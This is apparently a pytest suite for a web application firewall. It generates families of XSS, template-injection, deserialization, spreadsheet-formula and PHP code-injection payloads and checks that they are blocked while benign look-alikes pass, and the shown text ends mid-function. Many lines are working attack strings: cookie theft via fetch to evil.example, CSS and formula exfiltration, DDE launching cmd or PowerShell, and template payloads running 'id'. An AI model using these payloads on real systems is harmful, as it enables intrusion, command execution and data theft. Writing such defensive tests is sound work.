"""WAF, XSS and code injection by grammar (issue 11): markup a browser
parses as an element (namespaced too), attributes and CSS that run script,
script without tags, template expressions that compute or reach objects,
serialization type tags that name a class. Each class is generated from
the languages' vocabularies (element names, namespace prefixes, CSS
properties and their escapes, template delimiters, YAML tag forms) and
sent through a real edge (shipped config, bans off) as a JSON note field
and as a query value; benign look-alikes (markdown, type annotations,
placeholders in usage lines, code snippets, URLs, stack traces) must pass
in both."""
import base64
import itertools
import random
import urllib.parse

import pytest
import requests

from wafkit import (WafEdge, no_lua_errors, only_classes_config, random_tokens, rule_fired,
                    waf_config)

CONF = waf_config()


HEX = set("0123456789abcdefABCDEF")


def css_escape_each(s):
    """Each letter that is not a hex digit, and each dash, as a CSS escape
    of itself (\\-\\mo\\z...): a hex digit after a backslash would start a
    code point."""
    return "".join("\\" + c if (c.isalpha() and c not in HEX) or c == "-" else c
                   for c in s)


def css_nul(s):
    """A CSS NUL escape before every character that is not a hex digit
    (-m\\0o\\0z...): old parsers dropped it."""
    return "".join("\\0" + c if c not in HEX and i else c for i, c in enumerate(s))


def css_hex(s):
    """Letters as hexadecimal CSS escapes followed by a space (\\6d ...)."""
    return "".join(f"\\{ord(c):x} " if c.isalpha() else c for c in s)


def css_comments(s):
    """A comment inside the word (expr/**/ession)."""
    return s[:len(s) // 2] + "/**/" + s[len(s) // 2:]


# -- XSS -----------------------------------------------------------------------

NAMESPACES = ["svg", "html", "xhtml", "x", "xsl", "math"]
SCRIPTY = ["script", "iframe", "svg", "object", "embed"]
NAMESPACED = [f"<{ns}:{el}>alert(1)</{ns}:{el}>" if el == "script"
              else f"<{ns}:{el} onload=alert(1)>"
              for ns, el in itertools.product(NAMESPACES, SCRIPTY)]
NAMESPACED += [f"<{ns}:svg>" for ns in ("svg", "html", "xhtml")]

CSS_RUNS = [
    ("-moz-binding", "url(//evil.example/x.xml#x)"),
    ("binding", "url(http://evil.example/x.xml#x)"),
    ("behavior", "url(/x.htc)"),
    ("width", "expression(alert(1))"),
]
CSS_ENCODINGS = [lambda s: s, css_escape_each, css_nul, css_hex]
CSS = []
for (prop, val), enc in itertools.product(CSS_RUNS, CSS_ENCODINGS):
    decl = enc(prop) + ":" + (enc(val.split("(")[0]) + "(" + val.split("(", 1)[1]
                              if enc is not css_nul else enc(val))
    CSS.append(f'<div style="{decl}">x</div>')
    CSS.append(f'x" style="{decl}')
CSS += [f'<div style="width: {css_comments("expression")}(alert(1))">',
        '<p style=x:expression\\28 alert(1)\\29>']
# CSS that fetches from stored markup: a tag's style with a resource in
# any property, and an attribute selector's rule reading a field out
CSS_FETCH = [f'<{tag} {pre}style={q}{prop}:{fn}({src}){q}>x'
             for (tag, pre, q), (prop, fn), src in itertools.product(
                 [("div", "", '"'), ("SPAN", 'class="a" ', "'"), ("td", "", "")],
                 [("background-image", "url"), ("content", "url"),
                  ("background", "image-set"), ("list-style", "url")],
                 ["//evil.example/t", "test5.svg"])]
# dangling markup: a fetched URL's quote left open to another host
DANGLING = [f'{pre}<{tag} {attr}={q}{url}'
            for pre, (tag, attr), q, url in itertools.product(
                ["", '">', "x'>"],
                [("img", "src"), ("IMG", "SRC"), ("table", "background"), ("video", "poster"),
                 ("object", "data"), ("img", "srcset")],
                ["'", '"'], ["//evil.example/?", "https://evil.example/log?t="])]
CSS_FETCH += [f'{sel}{{background:url(//evil.example/{c})}}'
              for sel, c in [('input[value^="a"]', "a"), ("input[name=pw][value$=z]", "z"),
                             ("[data-token *= '7']", "7")]]

DATA_BINDING = [
    f'<xml id="{i}" src="/d.xml"></xml><{el} {a}="#{i}" datafld="p" '
    f'dataformatas="html"></{el}>'
    for i, el, a in [("x", "span", "datasrc"), ("d1", "label", "datasrc"),
                     ("q", "div", "datasrc")]
] + ['<span datasrc="#x" datafld="p" dataformatas="html">',
     '<xml src="//evil.example/x.xml" id="i"></xml>']

ENTRY_POINTS = ["eval", "alert", "setTimeout", "Function", "prompt"]
TAGLESS = (
    [f"{f}.call(this,unescape.call(this,location.hash))" for f in ENTRY_POINTS]
    + [f"{f}.apply(null,[name])" for f in ENTRY_POINTS]
    + [f"a={g};b=name;a(b)" for g in ("eval",)]
    + [f"x={g},y=location.hash,x(y.slice(1))" for g in ("eval",)]
    + [f"{n}[{a}+{b}]({c})" for n, a, b, c in
       [("1", "__", "_", "_+___"), ("7", "x", "y", "z"), ("top", "a", "b", "c")]]
    + [f"{n}[{k}]({arg})" for n, k, arg in [("1", "a", "b"), ("42", "ev", "code")]]
    + [f"{f}`1`" for f in ENTRY_POINTS]
    + [f"{obj}.{m}`{x}`" for obj, m, x in
       [("x", "call", "1"), ("document", "write", "<b>"), ("[ ] . sort ", "call", "${alert}")]]
    + ["with(document)body.appendChild(createElement('script')).src='//evil.example'",
       "with(window)eval(name)"]
)

# Markup a sanitizer removes, glued inside a word: a filter that strips
# tags joins the word ("o<x>nerror=" is "onerror=" once "<x>" goes).
HANDLERS = ["onerror", "onfocus", "onload", "onmouseover"]
FILLERS = ["<x>", "<b>", "<br/>", "<i >"]
STRIPPED = (
    [f'<img src=x {h[:k]}{t}{h[k:]}=alert(1)>' for h, t, k in
     itertools.product(HANDLERS, FILLERS, (1, 3))]
    + [f'"autof{t}ocus o{t}nfocus=alert(1)//' for t in FILLERS]
    + [f"<scr{t}ipt>alert(1)</scr{t}ipt>" for t in FILLERS]
    + [f'<a href="java{t}script:alert(1)">x</a>' for t in FILLERS]
)

# A bare <script> runs its content, whatever surrounds it: prose hidden
# where JavaScript skips it (a comment, a string, a template or regular
# expression literal, an HTML-like comment, an SVG script's entities and
# XML comments) leaves the code valid; so does a line break between words.
SCRIPT_CODE = ["alert(1)", "location=name", "fetch('//evil.example/'+document.cookie)",
               "eval(atob(name))"]
SCRIPT_HIDES = ["{c} // we need the sanitizer", "/* we need the sanitizer */ {c}",
                "'we need the sanitizer'; {c}", "`we need the sanitizer`; {c}",
                "x = /we need the sanitizer/; {c}", "<!-- we need the sanitizer\n{c}",
                "{c}\n--> we need the sanitizer", "if (1) /we need/.test({c})",
                "we\nneed\n{c}", "`we ${{{c}}} need`"]
SCRIPT_SVG = ["<svg><script>&#39;we need&#39;;{c}</script>",
              "<svg><script><!-- we\nneed -->{c}</script>",
              "<svg><script><![CDATA[{c}]]></script>"]
SCRIPT_RUNS = ([f"<script>{h.format(c=c)}" for h, c in itertools.product(SCRIPT_HIDES, SCRIPT_CODE)]
               + [f"<SCRIPT>\n{c}\n" for c in SCRIPT_CODE]
               + [f.format(c=c) for f, c in itertools.product(SCRIPT_SVG, SCRIPT_CODE)])

XSS_CLASSES = {
    "script-runs": SCRIPT_RUNS,
    "stripped-markup": STRIPPED,
    "namespaced": NAMESPACED,
    "css": CSS,
    "css-fetch": CSS_FETCH,
    "dangling": DANGLING,
    "data-binding": DATA_BINDING,
    "tagless": TAGLESS,
}

# -- code injection ------------------------------------------------------------

YAML_TAGS = (
    [f"{bang}python/{kind}:{target}" for bang, kind, target in itertools.product(
        ("!!", "!"), ("object/apply", "object/new", "name", "module"),
        ("os.system", "subprocess.Popen"))]
    + [f"{bang}ruby/{kind}:{cls}" for bang, kind, cls in itertools.product(
        ("!", "!!"), ("object", "hash", "struct"),
        ("Gem::Installer", "Gem::Requirement"))]
    + [f"- !!{cls} [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"
       for cls in ("javax.script.ScriptEngineManager", "com.sun.rowset.JdbcRowSetImpl")]
    + [f"!<tag:yaml.org,2002:{lang}/object/apply:os.system> [id]" for lang in ("python",)]
    + [f"key: !!{cls}\n  prop: 1" for cls in ("org.example.Gadget",
                                               "net.bytebuddy.Thing.Other")]
    + ['{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}']
)

COMPUTE = ["7*7", "191*7", "7*'7'"]
REACH = ["''.__class__.__mro__", "request.getClass()", "self.__init__.__globals__",
         "config.items()"]
DELIMS = [("{{", "}}"), ("${", "}"), ("#{", "}"), ("*{", "}"), ("~{", "}"),
          ("@(", ")"), ("<%= ", " %>"), ("[[${", "}]]"), ("<#= ", " #>"), ("<#", "#>")]
TEMPLATES = [o + e + c for (o, c), e in itertools.product(DELIMS, COMPUTE[:2])]
TEMPLATES += [o + e + c for (o, c), e in itertools.product(
    [("{{", "}}"), ("${", "}"), ("#{", "}"), ("*{", "}")], REACH)]
TEMPLATES += ["{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
              "{% import os %}{{ os.popen('id').read() }}",
              '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
              '#set($x = $e.getClass().forName("java.lang.Runtime"))']

TYPE_KEYS = ["__class", "__className", "json_class", "__type", "py/object", "@class"]
JSON_TYPE_HINTS = [f'{{"{k}": "{v}", "a": 1}}' for k, v in itertools.product(
    TYPE_KEYS, ["Foo", "subprocess.Popen"])]
TEMPLATES += ["{{= it.x }}", "{{= Tnn96}}"]
# the expression language's implicit objects, asked for by name
TEMPLATES += [f"{o}{{{n}}}" for o, n in itertools.product(
    ["$", "#"], ["applicationScope", "sessionScope", "pageContext", "facesContext",
                 "initParam", "requestScope"])]
# Smarty's reserved variable, whatever it is asked for
TEMPLATES += [f"{{{sp}$smarty.{k}{sp}}}" for sp, k in itertools.product(
    ["", " "], ["version", "template_object", "now", "server.PATH"])]



def java_stream(cls, tail):
    """The head of a Java serialized stream (magic AC ED, version 5, an
    object, its class descriptor by name, a serial UID, flags, fields)."""
    name = cls.encode()
    return (b"\xac\xed\x00\x05\x73\x72" + len(name).to_bytes(2, "big") + name
            + bytes(range(8)) + b"\x02\x00\x01" + tail)


# Base64 of a stream as applications carry it (a cookie, a view state, a
# JSON field): padded, unpadded, URL-safe. It decodes to binary, so no text
# rule reads it; a word of letters and digits only must be read too.
JAVA_STREAMS = [enc(java_stream(c, tail)).decode().rstrip("=" if strip else "")
                for c, tail, enc, strip in itertools.product(
                    ("java.util.HashMap", "java.util.PriorityQueue",
                     "org.apache.commons.collections.map.LazyMap",
                     "javax.management.BadAttributeValueExpException"),
                    (b"", b"x", b"xp"),     # one or two "=" of padding
                    (base64.b64encode, base64.urlsafe_b64encode), (False, True))]

# spreadsheet formulas a CSV export carries: a program through DDE, a
# cell sent out by a function that fetches a URL built from it
FORMULAS = [f"{lead}{pre}{prog}|'{arg}'!{item}"
            for lead, pre, (prog, arg), item in itertools.product(
                ["", "name,note\nbob,", '"'], ["=", "+", "-2+3+", "@SUM(1+1)*"],
                [("cmd", " /C calc"), ("powershell", " IEX(wget 0xcc.example)"),
                 ("MSEXCEL", "\\..\\..\\Windows\\System32\\cmd.exe")],
                ["A0", "'A1'"])]
FORMULAS += ['=DDE("cmd";"/C calc";"x")', "+DDEAUTO(cmd,\"/c calc\")"]
FORMULAS += [f'={fn}({pre}"https://evil.example/?d="{op}{cell}{post}'
             for fn, (pre, op, post), cell in itertools.product(
                 ["WEBSERVICE", "IMPORTXML", "IMPORTDATA", "HYPERLINK", "IMAGE"],
                 [("", "&", ")"), ("CONCAT(", ",", "))")], ["A1", "$B$2", "AA10"])]
# ... the cell wrapped in functions, of another sheet
FORMULAS += [f'={fn}("https://evil.example/?d="&{ref})'
             for fn, ref in itertools.product(
                 ["WEBSERVICE", "HYPERLINK", "IMAGE"],
                 ["ENCODEURL(Salaries!B2:B50)", "TEXTJOIN(\",\",TRUE,'Payroll Q1'!C2:C9)",
                  "ENCODEURL(TRIM(A2))", "Sheet2!$A$1"])]
# Java's archive URL over a file: or network URL: "!/" then the entry.
JAR_URLS = [f"jar:{inner}!/{entry}" for inner, entry in itertools.product(
    ["file:///opt/app/app.jar", "file:/srv/lib/x.jar", "http://evil.example/x.jar",
     "https://evil.example/b.zip"], ["application.properties", "", "BOOT-INF/classes/a.yml"])]

CODE_CLASSES = {"jar-url": JAR_URLS, "yaml-type-tag": YAML_TAGS, "template": TEMPLATES,
                "json-type-hint": JSON_TYPE_HINTS, "java-serialized": JAVA_STREAMS,
                "formula": FORMULAS}

# -- benign look-alikes ---------------------------------------------------------

FILES = ["config.yaml", "setup.cfg", "docs/readme.md", ".env.example", "Makefile"]
COMMANDS = ["go test", "make deps", "cargo build --release",
            "pip install -r requirements.txt", "kubectl get pods -n staging"]
MARKDOWN = (
    [f"Use `{c}` to update, then check `{f}`." for c, f in zip(COMMANDS, FILES)]
    + [f"- [x] write tests\n- [ ] tag release\n- [ ] review `{f}`" for f in FILES]
    + [f"## Setup\n\n1. Run `{c}`\n2. Open `{f}`\n3. Done!" for c, f in zip(COMMANDS, FILES)]
    + [f"Set `{k}={v}` in `{f}` and reload." for k, v, f in
       [("WORKERS", 4, "setup.cfg"), ("timeout", 30, "config.yaml")]]
    + ["**bold** and _it_ and [link](https://example.com/x) and ![img](/a.png)",
       "```js\nconst x = a.b`tpl`;\n```\nThen restart.",
       "Please call `support` or open `the ticket`.",
       "Step 2 [docs](https://example.com/docs)"]
)
# the keyword "function" before a backtick (a linker's message, reST's
# literals): only the constructor, "Function", tags a template
LINKER = ["In function `main': undefined reference to `foo'",
          "libbar.a(obj.o): In function `func(char *)':\n: undefined reference to `__ctype'",
          "Supported keywords: ``@function``, ``@enum`` and ``@struct``.",
          "a function `helper` and a class `Base`"]
# spreadsheet formulas that compute, link or fetch a constant URL; pipes
# and quotes in lists and commands
SHEETS = ["=SUM(A1:A3)", '=HYPERLINK("https://example.com","site")', '=IF(A1>0,"yes","no")',
          '=IMPORTXML("https://example.com/feed.xml","//item")', "+44 20 7946 0958",
          "- item | 'quoted' ! wow", "a | b 'c' ! d", "=A1&B1", "@channel | 'deploy' done!"]
# links cut short, closed fetched URLs
CUT_SHORT = ['<a href="https://example.com/docs', '<a href="//example.com/?x=',
             '<img src="a.png"> text', 'Use <img src="//cdn.example.com/a.png"> in it',
             "<img src='/static/logo.png"]
# template syntax named or held in text, computing nothing
TEMPLATE_TEXT = ["Use {$name} in Smarty templates", "the smarty.version variable",
                 "<#1> and <#2> are ticket refs", "rating <# 5 #>", "<#= DateTime.Now #>",
                 "{$smarty} is the reserved variable"]
# CSS written about, or styling without fetching
STYLES = ['<span style="color:red">hi</span>', '<img src="a.png" style="width:100%">',
          "The CSS property background: url(img.png) sets it",
          'a[href$=".pdf"] { color: red }',
          'a[href$=".pdf"]::after { content: url(pdf-icon.svg) }',
          "Use `background-image: url(hero.jpg)` in the stylesheet.",
          '<p style="margin:0 auto; font-family: Arial, sans-serif">text</p>']
TYPES = ["@returns {Promise<Object>}", "Vec<String>", "Map<String, List<Object>>",
         "Option<Box<dyn Error>>", "List<Map<Integer, Object>>",
         "/**\n * Load it.\n * @param {string} id - the id\n * @returns {Promise<Object>}\n */",
         "std::vector<int> v;", "Array<Form> forms"]
PLACEHOLDERS = ["usage: cp <input> <output>", "git clone <link> <dir>",
                "mytool --format <template> <file>", "send <title> and <form> fields",
                "<name>: <value>", "<iframe> and <object> are HTML elements", "a < b > c",
                "<svg> icons"]
CODE = ["$t('cart.items', { n: cartCount })", "this.$t('errors.required', { field: 'email' })",
        "for (let i = 0; i < n; i++) { console.log(i); }",
        "console.log('it\\'s done');",
        "let user = await fetch(`/api/users/${id}`).then(r => r.json());",
        "const url = `${base}/items/${id}`;",
        "handlers[type](event)", "arr[i](x)", "x = y * 2; z = a + b",
        "Hello {{name}}, order #{order_id} ships ${date}",
        "Price: ${price} per item", "Dear {{ user.name }}", "{% endblock %}",
        "!!str hello", "!!int 42", "wow!! this.is great", "value: !!binary aGVsbG8=",
        "Caused by: java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)",
        "at java.lang.Thread.run(Thread.java:748)",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id></order>",
        "5 * {x} + 2", "email @ (work)", "file (used)", "{{=<% %>=}}",
        '{"class": "economy", "type": "adult"}', '{"@type": "Person", "name": "Ann"}']
URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
        "https://docs.example.com/java/lang/Runtime.html#exec(java.lang.String)",
        "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
        "https://example.com/docs/templates#{{name}}"]

# Markup of text inside words: joined, it makes no handler or tag.
JARS_IN_TEXT = ["the jar: is full of cookies", "mason jar: file a claim", "jar:file not found",
                "Keep cookies in a jar: http://example.com/recipe is the link"]
TEXT_MARKUP = ["H<sub>2</sub>O boils at 100 degrees", "x<sup>2</sup> + y<sup>2</sup> = z<sup>2</sup>",
               "Use Vec<String>s and Option<T>s", "the <b>on</b>line=yes form",
               "un<i>believ</i>able", "CO<sub>2</sub> levels on<b>ly</b> rose"]

# <script> named in prose, a usage line or a changelog: what follows it is
# no JavaScript (two words side by side on one line, a quote a line break
# cuts), and a browser runs no script it cannot parse.
SCRIPT_PROSE = [f"{lead} <script> {tail}" for lead, tail in itertools.product(
    ["SVG files can carry", "Never echo user input inside", "Our CSP blocks inline",
     "Usage: npm run"],
    ["elements; we need the sanitizer first.", "tags unless they carry a nonce",
     "[-- <args>]\n\n  npm run test -- --coverage",
     "blocks, see the docs for details"])]

BENIGN_CLASSES = {"script-in-prose": SCRIPT_PROSE,
                  "jars-in-text": JARS_IN_TEXT, "text-markup": TEXT_MARKUP, "markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
                  "template-text": TEMPLATE_TEXT, "sheets": SHEETS,
                  "cut-short": CUT_SHORT, "types": TYPES, "placeholders": PLACEHOLDERS,
                  "code": CODE, "urls": URLS}


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-xss-code"), CONF).start()
    yield e
    e.stop()


def statuses(edge, value):
    """(JSON note field, query value) statuses on the catch-all route."""
    s = requests.Session()
    j = s.post(edge.url + "/api/notes", json={"note": value}).status_code
    q = s.get(edge.url + "/api/search?q=" + urllib.parse.quote(value, safe="")).status_code
    return j, q


def check_blocked(edge, values):
    missed = []
    for v in values:
        j, q = statuses(edge, v)
        if j != 403 or q != 403:
            missed.append((v, j, q))
    assert not missed, f"{len(missed)}/{len(values)} passed: {missed[:8]}"


def check_passes(edge, values):
    blocked = []
    for v in values:
        j, q = statuses(edge, v)
        if j == 403 or q == 403:
            blocked.append((v, j, q))
    assert not blocked, f"{len(blocked)}/{len(values)} blocked: {blocked[:8]}"


@pytest.mark.parametrize("cls", sorted(XSS_CLASSES))
def test_xss_class_blocked(edge, cls):
    check_blocked(edge, XSS_CLASSES[cls])


@pytest.mark.parametrize("cls", sorted(CODE_CLASSES))
def test_code_class_blocked(edge, cls):
    check_blocked(edge, CODE_CLASSES[cls])


@pytest.mark.parametrize("cls", sorted(BENIGN_CLASSES))
def test_benign_look_alikes_pass(edge, cls):
    check_passes(edge, BENIGN_CLASSES[cls])


def test_type_hint_keys_of_a_json_body_blocked(edge):
    missed = []
    for k in TYPE_KEYS:
        r = requests.post(edge.url + "/api/notes", json={"item": {k: "Foo", "n": 1}})
        if r.status_code != 403:
            missed.append((k, r.status_code))
    r = requests.post(edge.url + "/api/notes",
                      json={"@type": "Person", "class": "economy", "kind": "x"})
    assert r.status_code != 403
    assert not missed, missed


def test_urls_in_referer_and_origin_pass(edge):
    blocked = []
    for u in URLS[:3]:
        r = requests.get(edge.url + "/api/search?q=shoes",
                         headers={"Referer": u, "Origin": "https://github.com"})
        if r.status_code == 403:
            blocked.append(u)
    assert not blocked, blocked


# A Referer as a browser writes it: another site's search for markup,
# its own escapes in it (a URL in Referer is no code injection); a Referer
# no browser sends (raw markup, a quote and a space, not a URL) is read.
BROWSER_REFERERS = [
    "https://www.google.com/search?q=how+to+use+%3Cscript%3E+tag&ie=UTF-8",
    "https://duckduckgo.com/?q=%27+or+1%3D1+meaning&ia=web",
    "https://stackoverflow.com/questions/1/what-does-%3Cimg+onerror%3D%3E-do",
]
FORGED_REFERERS = [
    "<script>alert(1)</script>",
    "https://x.example/\"><svg onload=alert(1)>",
    "https://x.example/?q=' or 1=1 --",
]


def test_browser_referers_with_escaped_markup_pass(edge):
    blocked = [u for u in BROWSER_REFERERS
               if requests.get(edge.url + "/api/search?q=shoes",
                               headers={"Referer": u}).status_code == 403]
    assert not blocked, blocked


def test_forged_referers_still_read(edge):
    passed = [u for u in FORGED_REFERERS
              if requests.get(edge.url + "/api/search?q=shoes",
                              headers={"Referer": u}).status_code != 403]
    assert not passed, passed


def test_markup_still_caught_next_to_its_look_alikes(edge):
    """The bare-tag and backtick-pairing rules must not open holes: the
    same shapes with script in them are blocked."""
    check_blocked(edge, [
        "Promise<script>alert(1)</script>",
        "usage: cp <input autofocus onfocus=alert(1)> <output>",
        "</title><img src=x onerror=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<iframe></iframe>",
        "<style>@import 'x';</style>",
        "Use `x` then alert`1`",
        "- [x] done\n- [ ] `a`eval`name`",
        "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>",
        "console.info(1)",
        "child_process.exec('id')",
    ])


# JavaScript parses a whole script before it runs any: a tagged template
# the script cannot hold runs nothing ("${...}" that is no expression, a
# tag glued to a number or a closing bracket, a name glued to the closing
# backtick). Line breaks let JavaScript insert a ";": glued across one is
# still a template that runs. A member tags one where its object is one
# every page has (window, top, document...) or an expression's result.
TEMPLATE_REJECTS = ["see top.b`x`y", "0cv6l4`${a}`", "q)top.y`t`", "k`a${*b}`",
                    "tag`${a b}`", "x.y`${a;b}`", "window.w`s`7"]
TEMPLATE_RUNS = ["see top.b`x`", "self.b`x` in c", "tag`${a + b}`", "x.y`${(a)}`+1",
                 "q x.y`${[1].map(String)}`", "tag`${/re/g.source}`", "window.b`x`\ny",
                 "parent.b`x`/*c*/y", "(x).y`t`", "\"frames.b`x`\"", "[].y`t`"]
# Libraries' tags in code (styled-components, GraphQL, lit) and a member
# of an object no page holds: no script entry point, no substitution.
LIBRARY_TAGS = ["const Button = styled.button`color: red;`",
                "const q = gql.query`{ user { id } }`", "return html.p`hello`",
                "see a.b`x`", "kj.q`7f;"]


@pytest.fixture(scope="module")
def xss_edge(tmp_path_factory):
    # only the XSS rules run: another rule's refusal must not hide theirs
    e = WafEdge(tmp_path_factory.mktemp("waf-xss"), only_classes_config("xss")).start()
    yield e
    e.stop()


@pytest.mark.parametrize("value", TEMPLATE_REJECTS)
def test_a_template_js_cannot_parse_is_no_obfuscation(xss_edge, value):
    assert not rule_fired(xss_edge, value, "xss-obfuscation"), value


@pytest.mark.parametrize("value", TEMPLATE_RUNS)
def test_a_template_js_parses_is_obfuscation(xss_edge, value):
    assert rule_fired(xss_edge, value, "xss-obfuscation"), value


@pytest.mark.parametrize("value", LIBRARY_TAGS)
def test_a_member_of_no_pages_object_tags_nothing(xss_edge, value):
    assert not rule_fired(xss_edge, value, "xss-obfuscation"), value


def test_random_tokens_hold_few_tagged_templates(xss_edge):
    # every printable byte but the JSON quote and backslash, seeded: 16 of
    # these 120 held a tagged template before the script around it was
    # read, 4 after, 2 since a member tags one only on a page's own object
    hits = sum(rule_fired(xss_edge, token, "xss-obfuscation")
               for token in random_tokens(20261203, 120))
    assert hits <= 3, hits


# A template engine parses the whole expression between its delimiters
# first: one no engine can parse (an operator only binary where an operand
# must stand, a bracket closing what is not open or closing after an
# operator, a string that never ends) computes nothing. Ruby and
# Handlebars call without brackets, so operands side by side still parse.
SSTI_REJECTS = ["#{<{i`[{w^`hed&5hwnfbw0ffa6~e#}", "#{a = = 7*7}", "#{,7*7}", "${7*(]}",
                "#{(7*7+)}", "${=7*7}", "#{7*7 && || b}", "{{ > x(1) }}",
                "#{'7*7 never closed}"]
SSTI_RUNS = ["{{7*'7'}}", "{{ x.__class__ | attr('__mro__') }}",
             "{{#with 's' as |string|}}{{this.push (lookup string.sub \"constructor\")}}",
             "#{`id`}", "#{File.open('/etc/passwd').read}", "#{function(){x=1;y=2}()}",
             "#{system 'id'}", "#{ exec \"whoami\" }",
             "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
             "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"id\")}", "@(6*7)",
             "#{ [1,2].map { |x| x * 2 } }", "{{ x[1:]|map('system')|join }}"]


@pytest.fixture(scope="module")
def ssti_edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-ssti"), only_classes_config("ssti")).start()
    yield e
    e.stop()


@pytest.mark.parametrize("value", SSTI_REJECTS)
def test_a_template_no_engine_parses_computes_nothing(ssti_edge, value):
    assert not rule_fired(ssti_edge, value, "ssti"), value


@pytest.mark.parametrize("value", SSTI_RUNS)
def test_a_template_an_engine_parses_is_refused(ssti_edge, value):
    assert rule_fired(ssti_edge, value, "ssti"), value


def test_random_tokens_hold_few_template_expressions(ssti_edge):
    # every printable byte but the JSON quote and backslash, seeded: 21 of
    # these 120 held a template expression before its text was read, 7
    # still do
    hits = sum(rule_fired(ssti_edge, token, "ssti") for token in random_tokens(20261203, 120))
    assert hits <= 9, hits


# PHP parses all the code it is given before it runs any: a dynamic call
# whose argument list closes with the wrong bracket, or runs into a comment
# or string that never ends, is a parse error and runs nothing (found on a
# real browser's beacon: a bot sensor's random token holding "$f2(/*...").
# (brackets, strings and comments; then the expression grammar: two
# operands in a row, an operator where an operand must stand, a prefix
# operator after an operand, a statement inside the list, an operand glued
# to the call's ")"; "$iq(f!b:)" is from a real sensor beacon)
PHP_REJECTS = ["x $f2(x] y", "$a(b}", "q$f(/* never closed", "x$g(1 // to the end",
               "k=$h('never closed", "$iq(f!b:)", "$f(a b)", "$f(*x)", "$f(x~)",
               "$f(a;b)", "$f(1)x", "$f(,1)", "$g($a =)", "$f(1) > 'a' b"]
PHP_RUNS = ["$a($b)", '$x("sys"."tem")', "$a(1);//", '$a(/* x */"id")',
            "x';$f($x[0]);#", "$cb([1], 'sys'.'tem')",
            "$f(function($x) use ($y) { return $x; })", "$f((int) $x, 'id')",
            "$f(new Foo(1), $a->and, Foo::class)", "$f(...$args, name: 'id')",
            "$f(!$a ? -1 : ~$b)", "$f(fn($x) => $x . 'id', [1 => 2,])",
            "$a['x']($b['y'])(1)", "x=$f(1) . 'id'; what follows ; is a new statement"]


@pytest.fixture(scope="module")
def php_edge(tmp_path_factory):
    # only the code rules run: a value refused first by another rule must
    # not hide what php-dynamic-call says
    e = WafEdge(tmp_path_factory.mktemp("waf-php"), only_classes_config("php")).start()
    yield e
    e.stop()


@pytest.mark.parametrize("value", PHP_REJECTS)
def test_a_call_php_cannot_parse_is_no_dynamic_call(php_edge, value):
    assert not rule_fired(php_edge, value, "php-dynamic-call"), value


@pytest.mark.parametrize("value", PHP_RUNS)
def test_a_call_php_parses_is_a_dynamic_call(php_edge, value):
    assert rule_fired(php_edge, value, "php-dynamic-call"), value


def test_random_tokens_hold_few_dynamic_calls(php_edge):
    # every printable byte but the JSON quote and backslash, seeded: before
    # the argument list was read, 36 of these 120 held a "$name(" call;
    # with its brackets read, 8; with its expression grammar and the
    # statement it stands in read, none
    hits = sum(rule_fired(php_edge, token, "php-dynamic-call")
               for token in random_tokens(20261203, 120))
    assert hits <= 2, hits


# Code after a string the value closes, by each language's own joint:
# PHP's concatenation glued to a command function ("'.exec('id').'"),
# ERB's backtick (Ruby runs it as a command).
CODE_JOINTS = (
    [f"{q}.{fn}({q}{cmd}{q}).{q}" for q, fn, cmd in itertools.product(
        ("'", '"'), ("system", "passthru", "shell_exec", "exec"), ("id", "cat /etc/passwd"))]
    + [f"<%{eq} `{cmd}` %>" for eq, cmd in itertools.product(("=", ""), ("id", "ls -la /"))]
)
CODE_JOINT_TEXT = ["'abc'.length", '"str".toUpperCase()', "'x'.replace('a', 'b')",
                   "<%= name %>"]


def test_code_after_a_closed_string_blocked(edge):
    check_blocked(edge, CODE_JOINTS)


def test_code_joint_look_alikes_pass(edge):
    check_passes(edge, CODE_JOINT_TEXT)


# Script written in pieces: string literals joined by "+" that spell, read
# in order, a script URL or a script entry point's call no single literal
# holds; code that joins literals around names (messages, URLs, HTML
# built from pieces) passes.
def pieces(text, cuts):
    bounds = [0, *cuts, len(text)]
    return [text[a:b] for a, b in zip(bounds, bounds[1:])]


JOINED_SCRIPT = [
    sep.join(f"{q}{p}{q}" for p in pieces(target, cuts)) + tail
    for target, cuts in [("javascript:alert(1)", (4, 10)), ("javascript:alert(1)", (2, 11, 15)),
                         ("alert(document.domain)", (3,)), ("vbscript:msgbox(1)", (2, 8)),
                         ("eval(name)", (2,))]
    for q, sep, tail in [("'", "+", ""), ('"', " + ", ";"), ("'", "+''+", "")]
] + ["s1=''+'java'+''+'scr'+'';s2=''+'ipt'+':'+'ale'+'';s3=''+'rt'+''+'(1)'; u=s1+s2+s3"]
JOINED_CODE = ["msg = 'Hello, ' + name + '!'", "html = \"<img src='\" + src + \"'>\"",
               "url = 'https://' + host + '/api/' + path", '"a" + "b" is "ab" in JavaScript',
               "print('total: ' + str(n))", "const s = 'eval' + 'uate the ' + 'results'",
               "label = 'Java' + 'Script: the good parts'"]


def test_script_joined_from_literals_blocked(edge):
    check_blocked(edge, JOINED_SCRIPT)


def test_code_joining_literals_passes(edge):
    check_passes(edge, JOINED_CODE)


# Every scheme a browser ever ran script from, in an attribute (Netscape's
# livescript: and mocha: too); the same words before a colon in text are
# names ("Mocha: a test framework").
ATTR_SCHEMES = [f"<{tag} {attr}={q}{scheme}:{code}{q}>"
                for tag, attr in [("img", "src"), ("a", "href"), ("iframe", "src")]
                for scheme in ["javascript", "vbscript", "livescript", "mocha", "MOCHA"]
                for q, code in [('"', "[code]"), ("", "alert(1)")]]
SCHEME_WORDS = ["Mocha: a test framework for Node", "mocha: run the specs again",
                "LiveScript: a language that compiles to JavaScript",
                "Order: one mocha, two lattes"]


def test_script_schemes_in_attributes_blocked(edge):
    check_blocked(edge, ATTR_SCHEMES)


def test_scheme_names_in_text_pass(edge):
